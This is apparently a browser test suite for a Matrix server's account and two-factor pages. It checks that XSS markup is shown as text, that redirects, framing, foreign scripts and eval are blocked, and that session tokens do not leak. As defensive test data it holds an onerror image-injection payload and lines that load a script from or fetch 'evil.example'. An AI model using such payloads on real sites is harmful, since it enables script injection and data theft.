import { expect } from 'chai';
import type { Browser } from 'playwright-core';
import { type AccountPage, openAccountPage, signInOn } from '../support/account-page.js';
import { launchChromium } from '../support/chromium.js';
import { Authenticator, call, enrolPerson, passwordAuth, registerPerson } from '../support/client.js';
import { ask, beginTotp, nextCode, onNewDeviceByCode, prove } from '../support/journeys.js';
import { needs } from '../support/real.js';
import { startTestServer, type TestServer } from '../support/test-server.js';
import { type ClientSite, startClientSite } from './client-site.js';

const HOSTILE = `"><img src=x onerror="document.title='ran'"><b>`;
const TOTP = 'm.login.2fa.totp';

/** What trying it in the page comes to: the name of the error that the policy makes of it. */
const attempt = (code: string): string => `new Promise((resolve) => setTimeout(() => {
  try { ${code}; resolve('done'); } catch (fault) { resolve(fault.name); }
}))`;

describe('an attack on the account page', () => {
  let browser: Browser;
  let server: TestServer;
  let site: ClientSite;
  let app: AccountPage | undefined;
  before(async function () {
    browser = await needs(this, 'Chromium', launchChromium);
    server = await startTestServer('embedded');
    site = await startClientSite();
  });
  after(async () => {
    await Promise.all([server?.stop(), site?.stop()]);
  });
  afterEach(async () => {
    await app?.close();
    app = undefined;
  });

  it('by a name that is markup shows the markup as text, in the list and in each dialog', async () => {
    const person = await enrolPerson(server);
    const { body } = await prove(server, beginTotp(person, HOSTILE), person);
    const path = `account/two-factor/totp/${body.id}/confirm`;
    const token = new Authenticator(body.secret).code(server.clock.now());
    await ask(server, { method: 'POST', path, token: person.token, body: { token } });
    app = await openAccountPage(browser, server);
    await signInOn(app.page, server, person);
    const { page, faults } = app;
    await page.getByText(HOSTILE, { exact: true }).waitFor();
    for (const action of ['Rename', 'Revoke']) {
      await page.getByRole('button', { name: new RegExp(`^${action} .*img`) }).click();
      await page.getByRole('dialog').getByText(HOSTILE).waitFor();
      await page.keyboard.press('Escape');
    }
    expect(await page.locator('img').count()).to.equal(0);
    expect(await page.title()).to.not.equal('ran');
    expect(faults).to.deep.equal([]);
  });

  it('by an address that is markup, or of another site, goes nowhere', async () => {
    const person = await registerPerson(server);
    app = await openAccountPage(browser, server, {
      path: `/account/${encodeURIComponent(HOSTILE)}?next=https://evil.example/`,
    });
    await signInOn(app.page, server, person);
    await app.page.getByRole('heading', { level: 1 }).waitFor();
    expect(new URL(app.page.url()).origin).to.equal(server.url);
    expect(await app.page.title()).to.not.equal('ran');
    expect(await app.page.locator('img').count()).to.equal(0);
  });

  it('by a script that got onto it is stopped by its policy', async () => {
    app = await openAccountPage(browser, server);
    const { page, faults } = app;
    const tries: Readonly<Record<string, string>> = {
      "document.body.innerHTML = '<img src=x onerror=alert(1)>'": 'TypeError',
      "document.createElement('script').textContent = 'document.title = 1'": 'TypeError',
      "document.createElement('script').src = 'https://evil.example/x.js'": 'TypeError',
      "document.write('<p>')": 'TypeError',
      "eval('1')": 'EvalError',
      "new Function('1')": 'EvalError',
    };
    const outcomes: Record<string, string> = {};
    for (const code of Object.keys(tries)) outcomes[code] = await page.evaluate(attempt(code));
    expect(outcomes).to.deep.equal(tries);
    const sent = "fetch('https://evil.example/').then(() => 'sent', () => 'not sent')";
    expect(await page.evaluate(sent)).to.equal('not sent');
    expect(faults.join()).to.include('connect-src');
  });

  it('by a frame of another site finds no page in it', async () => {
    app = await openAccountPage(browser, server);
    const { page, faults } = app;
    await page.goto(site.opening('about:blank'));
    await page.evaluate(`document.body.innerHTML = '<iframe src="${server.url}/"></iframe>'`);
    await page.waitForFunction(
      "(() => { try { return document.querySelector('iframe').contentDocument === null } catch { return true } })()",
    );
    expect(await page.frames()[1]?.getByLabel('Password').count()).to.equal(0);
    expect(faults.join()).to.include('frame-ancestors');
  });

  it('by what is left behind finds the token in its tab alone, and nowhere after signing out', async () => {
    const person = await enrolPerson(server);
    app = await openAccountPage(browser, server);
    const { page, context } = app;
    const referrers = new Set<string>();
    const urls: string[] = [];
    page.on('request', (request) => {
      referrers.add(request.headers().referer ?? '');
      urls.push(request.url());
    });
    await signInOn(app.page, server, person);
    await page.getByText('Phone', { exact: true }).waitFor();
    const kept = JSON.parse(await page.evaluate("sessionStorage.getItem('matrix-uia.session')"));
    const places = async (): Promise<string> =>
      JSON.stringify([
        await page.content(),
        page.url(),
        urls,
        await page.evaluate('JSON.stringify({ ...localStorage })'),
        await context.cookies(),
      ]);
    expect(await places()).to.not.include(kept.token);
    expect([...referrers]).to.deep.equal(['']);
    await page.getByRole('button', { name: 'Sign out' }).click();
    await page.getByRole('heading', { name: 'Sign in' }).waitFor();
    expect(await page.evaluate('JSON.stringify({ ...sessionStorage })')).to.not.include(kept.token);
    expect(await places()).to.not.include(kept.token);
    await page.waitForFunction(`fetch('/_matrix/client/v3/account/whoami', { headers: { Authorization: 'Bearer ${kept.token}' } })
      .then(({ status }) => status === 401)`);
  });

  it('by another tab gets nothing of it: a session is known to one tab alone', async () => {
    const person = await registerPerson(server);
    app = await openAccountPage(browser, server);
    await signInOn(app.page, server, person);
    const second = await app.context.newPage();
    await second.goto(server.url);
    await second.getByRole('heading', { name: 'Sign in' }).waitFor();
  });

  it('by the session of another account proves nothing on its page', async () => {
    const owner = await enrolPerson(server);
    const other = await enrolPerson(server);
    const stranger = await onNewDeviceByCode(server, other);
    const asked = { method: 'POST', path: 'delete_devices', token: owner.token, body: { devices: ['ABC'] } };
    const { body } = await ask(server, asked, passwordAuth(owner.userId));
    app = await openAccountPage(browser, server);
    const { page } = app;
    await page.goto(`${server.url}/_matrix/client/v3/auth/${TOTP}/fallback/web?session=${body.session}`);
    await page.getByLabel('Code', { exact: true }).fill(nextCode(server, stranger));
    await page.keyboard.press('Enter');
    await page.getByRole('alert').waitFor();
    const reply = await call(server.url, 'POST', 'delete_devices', {
      token: stranger.token,
      body: { devices: ['ABC'], auth: { session: body.session } },
    });
    expect(reply.status).to.be.within(400, 403);
    expect(reply.body.session).to.not.equal(body.session);
  });

  /** The page of one question in two windows of the browser of whoever is asked. */
  async function openTwice() {
    const person = await enrolPerson(server);
    const asked = { method: 'POST', path: 'delete_devices', token: person.token, body: { devices: ['ABC'] } };
    const { session } = (await ask(server, asked, passwordAuth(person.userId))).body;
    app = await openAccountPage(browser, server);
    const pages = [app.page, await app.context.newPage()] as const;
    for (const page of pages)
      await page.goto(`${server.url}/_matrix/client/v3/auth/${TOTP}/fallback/web?session=${session}`);
    return { person, asked, session, pages };
  }

  it('by a page that is open twice counts once', async () => {
    const { person, asked, session, pages } = await openTwice();
    const code = nextCode(server, person);
    for (const page of pages) {
      await page.getByLabel('Code', { exact: true }).fill(code);
      await page.keyboard.press('Enter');
      await page.getByRole('heading', { name: 'Done' }).waitFor();
    }
    expect((await ask(server, asked, { session })).status).to.equal(200);
  });

  it('by a page that was stopped elsewhere is told calmly that it is over, and changes nothing', async () => {
    const {
      person,
      asked,
      session,
      pages: [page, twin],
    } = await openTwice();
    await twin.getByRole('button', { name: 'Stop' }).click();
    await twin.getByRole('heading', { name: 'Stopped' }).waitFor();
    await page.getByLabel('Code', { exact: true }).fill(nextCode(server, person));
    await page.keyboard.press('Enter');
    await page.getByRole('heading', { name: 'This page is no longer valid' }).waitFor();
    expect((await ask(server, asked, { session })).status).to.equal(401);
  });
});
